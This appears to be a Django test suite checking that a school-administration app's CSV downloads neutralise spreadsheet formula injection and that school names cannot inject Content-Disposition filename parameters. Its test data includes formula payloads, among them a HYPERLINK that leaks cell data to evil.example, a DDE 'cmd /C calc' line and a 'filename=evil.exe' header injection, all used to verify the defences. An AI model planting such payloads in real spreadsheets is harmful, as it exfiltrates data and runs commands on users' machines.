"""Every CSV download neutralises formula injection: a value starting with =, +, -, @, a tab or a carriage
return (what Excel, LibreOffice and Sheets run as a formula) comes out behind an apostrophe, and no cell
of any download starts with one. Names in the file's name cannot break the download either.

The imports store such values verbatim (test_hostile_imports.py); this is where they are made harmless.
"""

from __future__ import annotations

import csv
import datetime
import inspect
import io
from collections.abc import Callable
from dataclasses import dataclass
from email.message import Message

import pytest
import time_machine
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from hypothesis import given
from hypothesis import strategies as st

from accounts.models import ProgramMembership, RosterImport, RosterImportStatus, RosterPreviewRow, Student
from accounts.roster import import_roster
from authorizations import services as authorization_services
from authorizations.models import Authorization
from consent import services as consent_services
from consent.models import ConsentScope
from core.csv_response import csv_rows, neutralise_formula
from tests.accounts.bundles import standard_files, write_bundle
from tests.disclosures.conftest import open_cycle
from tests.factories import (
    AuthorizationFactory,
    ConsentScopeFactory,
    ProgramFactory,
    SchoolFactory,
    SocialAccountFactory,
    StudentFactory,
    ToolFactory,
    guardian_of,
    staff_at,
)
from tests.security.strategies import FORMULA_PREFIXES, examples, formula_values

# One value per prefix a spreadsheet runs; the body of the first is the classic data-leaking link.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open the report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    '@SUM(IMPORTXML("https://evil.example/","//a"))',
    "\t=1+1",
    "\r=2+2",
]
assert {payload[0] for payload in PAYLOADS} == set(FORMULA_PREFIXES)


@pytest.fixture
def today():
    with time_machine.travel(datetime.datetime(2026, 11, 21, 15, 0, tzinfo=datetime.UTC), tick=False):
        yield datetime.date(2026, 11, 21)


def download(client, url: str | tuple[str, dict]) -> list[list[str]]:
    # A download that hands something out (families' links) is a POST; the others are GETs.
    response = client.post(url[0], url[1]) if isinstance(url, tuple) else client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


# --- Each export: put the payloads where it prints them ----------------------------------------------------


def _accounts(world) -> str:
    for payload in PAYLOADS:
        SocialAccountFactory(school=world.school, district=world.district, display_name=payload)
    return reverse("registry:account_export")


def _tools(world) -> str:
    for n, payload in enumerate(PAYLOADS):
        ToolFactory(district=world.district, name=f"Tool {n}", vendor=payload)
    return reverse("tools:tool_export")


def _written_consent(world) -> None:
    world.district.photo_model = "written_consent"
    world.district.save()
    consent_services.consent_scopes_set_up(acting_user=None, district=world.district)


def _do_not_post(world) -> str:
    _written_consent(world)  # no answer on file: every student is on the do-not-post list
    for payload in PAYLOADS:
        StudentFactory(school=world.school, last_name=payload)
    return reverse("consent:school_export", args=[world.school.pk])


def _no_answer(world) -> str:
    _written_consent(world)
    for payload in PAYLOADS:
        StudentFactory(school=world.school, last_name=payload)
    return reverse("consent:no_answer", args=[world.school.pk]) + "?format=csv"


def _disclosures(world) -> str:
    cycle = open_cycle(world)
    for payload in PAYLOADS:
        staff_at(world.school, last_name=payload)
    return reverse("disclosures:cycle_detail", args=[cycle.pk]) + "?format=csv"


def _dashboard_accounts(world) -> str:
    world.district.min_account_administrators = 1
    world.district.save()
    for payload in PAYLOADS:  # no administrator: each needs attention, so each is listed
        SocialAccountFactory(school=world.school, district=world.district, display_name=payload)
    return reverse("dashboards:school_export", args=[world.school.pk, "accounts"])


def _dashboard_disclosures(world) -> str:
    open_cycle(world, disclosure_recipient="school")  # the principal sees the names
    for payload in PAYLOADS:
        staff_at(world.school, last_name=payload)
    return reverse("dashboards:school_export", args=[world.school.pk, "disclosures"])


def _dashboard_consent(world) -> str:
    StudentFactory(school=world.school)
    for payload in PAYLOADS:
        ConsentScopeFactory(district=world.district, name=payload)
    return reverse("dashboards:school_export", args=[world.school.pk, "consent"])


def _dashboard_authorizations(world) -> str:
    for n, payload in enumerate(PAYLOADS):
        tool = ToolFactory(district=world.district, name=payload, parental_consent_required=True)
        program = ProgramFactory(school=world.school, name=f"Club {n}")
        ProgramMembership.objects.create(program=program, student=StudentFactory(school=world.school))
        requested = AuthorizationFactory(program=program, tool=tool)
        authorization_services.authorization_grant(  # no family has answered yet: not ready, so listed
            acting_user=world.superintendent,
            authorization=Authorization.objects.select_related("district", "tool", "program__school").get(
                pk=requested.pk
            ),
            decided_as="superintendent",
        )
    return reverse("dashboards:school_export", args=[world.school.pk, "authorizations"])


def _district_table(world) -> str:
    for payload in PAYLOADS:
        SchoolFactory(district=world.district, name=payload)
    return reverse("dashboards:district_export", args=[world.district.slug])


def _roster_preview(world) -> str:
    preview = RosterImport.objects.create(
        district=world.district, file_name="roster.zip", dry_run=True, status=RosterImportStatus.SUCCEEDED
    )
    for payload in PAYLOADS:  # a name as the student information system spelled it
        RosterPreviewRow.objects.create(roster_import=preview, entity="students", action="added", name=payload)
    return reverse("roster_import_changes_csv", args=[preview.pk])


def _audit(world) -> str:
    for payload in PAYLOADS:  # each creation is in the accounts' history, under its name
        SocialAccountFactory(school=world.school, district=world.district, display_name=payload)
    return reverse("audit:export", args=[world.district.slug])


def _consent_template(world) -> str:
    for payload in PAYLOADS:  # a consent question's name heads its column
        ConsentScopeFactory(district=world.district, name=payload)
    return reverse("consent:import_template", args=[world.district.slug])


def _family_links(world) -> tuple[str, dict]:
    for payload in PAYLOADS:  # a guardian's name as the roster spelled it
        guardian_of(StudentFactory(school=world.school), first_name=payload)
    return reverse("consent:family_links"), {"school": world.school.pk, "action": "csv"}


@dataclass(frozen=True)
class Export:
    url_name: str
    persona: str
    setup: Callable[..., str | tuple[str, dict]]

    def __str__(self) -> str:
        return f"{self.url_name}:{self.setup.__name__.strip('_')}"


EXPORTS = [
    Export("registry:account_export", "director", _accounts),
    Export("tools:tool_export", "staff", _tools),
    Export("consent:school_export", "staff", _do_not_post),
    Export("consent:no_answer", "clerk", _no_answer),
    Export("disclosures:cycle_detail", "director", _disclosures),
    Export("dashboards:school_export", "principal", _dashboard_accounts),
    Export("dashboards:school_export", "principal", _dashboard_disclosures),
    Export("dashboards:school_export", "principal", _dashboard_consent),
    Export("dashboards:school_export", "principal", _dashboard_authorizations),
    Export("dashboards:district_export", "director", _district_table),
    Export("audit:export", "director", _audit),
    Export("roster_import_changes_csv", "director", _roster_preview),
    Export("consent:family_links", "clerk", _family_links),
    Export("consent:import_template", "director", _consent_template),
]


@pytest.mark.parametrize("export", EXPORTS, ids=str)
def test_it_neutralises_every_formula_prefix_in_the_download(client, world, today, export):
    url = export.setup(world)
    client.force_login(world.persona(export.persona))

    rows = download(client, url)

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    for payload in PAYLOADS:  # the cell holds the value itself, or starts with it ("Name (Platform)")
        assert any(cell.startswith("'" + payload) for cell in cells), (payload, rows)


def _url_names(resolver: URLResolver, namespace: str = "") -> list[tuple[str, URLPattern]]:
    found = []
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            found += _url_names(pattern, inner)
        elif pattern.name:
            found.append((namespace + pattern.name, pattern))
    return found


def test_it_checks_every_csv_download_of_the_project():
    """A new download (an address ending in .csv, or a view answering ?format=csv) must join EXPORTS."""
    downloads = set()
    for name, pattern in _url_names(get_resolver()):
        if pattern.callback.__module__.startswith(("django.", "allauth.")):
            continue
        source = inspect.getsource(inspect.unwrap(pattern.callback))
        if ".csv" in str(pattern.pattern) or '"csv"' in source or "csv_response(" in source:
            downloads.add(name)
    assert downloads == {export.url_name for export in EXPORTS}


# --- The helper every export uses, and names in file names ------------------------------------------------


@examples(1000)
@given(cells=st.lists(st.lists(st.text() | formula_values() | st.integers(), max_size=5), max_size=5))
def test_it_writes_any_cell_so_that_it_reads_back_neutralised_and_unchanged(cells):
    text = "".join(csv_rows(["header"], cells)).removeprefix("\ufeff")

    rows = list(csv.reader(io.StringIO(text, newline="")))

    assert rows[1:] == [[neutralise_formula(cell) for cell in row] for row in cells]
    for row, original in zip(rows[1:], cells, strict=True):
        for cell, value in zip(row, original, strict=True):
            assert not cell.startswith(FORMULA_PREFIXES)
            assert cell.replace("'", "") == str(value).replace("'", "")  # only apostrophes were added


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('＝HYPERLINK("https://evil.example")', '\'＝HYPERLINK("https://evil.example")'),  # full-width =
        ("＋1+1", "'＋1+1"),
        ("\ufeff=1+1", "'\ufeff=1+1"),  # a byte-order mark before the sign
        (" =1+1", "' =1+1"),
        ('Band parents;=HYPERLINK("https://evil.example")', 'Band parents;\'=HYPERLINK("https://evil.example")'),
        ("North; -2+3", "North; '-2+3"),
        ("Grades 9-12; ages 14+", "Grades 9-12; ages 14+"),
        ("O'Brien", "O'Brien"),
    ],
)
def test_it_neutralises_what_spreadsheets_in_other_locales_run(value, written):
    assert neutralise_formula(value) == written


@pytest.mark.parametrize(
    "name", ["North\nHigh", 'North "High"; filename=evil.exe', "École Saint-Exupéry", "North\r\nHigh"]
)
def test_it_downloads_whatever_the_school_and_district_are_called(client, world, today, name):
    world.school.name = name
    world.school.save()
    world.district.name = name
    world.district.save()
    client.force_login(world.director)

    for url, file_name in (
        (reverse("dashboards:school_export", args=[world.school.pk, "accounts"]), f"{name} accounts 2026-11-21.csv"),
        (reverse("dashboards:district_export", args=[world.district.slug]), f"{name} schools 2026-11-21.csv"),
    ):
        response = client.get(url)

        assert response.status_code == 200
        header = Message()
        header["Content-Disposition"] = response["Content-Disposition"]
        assert header.get_filename() == file_name  # one parameter, the whole name, nothing injected
        assert [key for key, _ in header.get_params(header="content-disposition")[1:]] in (["filename"], ["filename*"])


def test_a_roster_imported_formula_is_stored_verbatim_and_neutralised_on_download(client, world, today, tmp_path):
    files = standard_files()
    files["users.csv"][3]["familyName"] = PAYLOADS[0]  # s1, a student at North High (sch1)
    import_roster(world.district, write_bundle(tmp_path, files))
    _written_consent(world)
    school = world.district.schools.get(roster_sourced_id="sch1")
    assert Student.objects.get(district=world.district, roster_sourced_id="s1").last_name == PAYLOADS[0]
    viewer = staff_at(school)
    client.force_login(viewer)

    rows = download(client, reverse("consent:school_export", args=[school.pk]))

    assert ["'" + PAYLOADS[0]] == [cell for row in rows for cell in row if PAYLOADS[0] in cell]
    assert ConsentScope.objects.filter(district=world.district).exists()
